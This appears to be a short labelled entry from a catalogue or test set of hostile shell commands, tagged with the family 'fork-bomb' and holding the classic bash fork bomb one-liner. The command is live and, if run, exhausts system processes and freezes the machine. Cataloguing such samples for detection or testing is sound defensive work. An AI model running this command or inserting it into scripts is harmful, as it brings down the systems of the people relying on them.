# description: The classic bash fork bomb.
# family: fork-bomb
:(){ :|:& };:
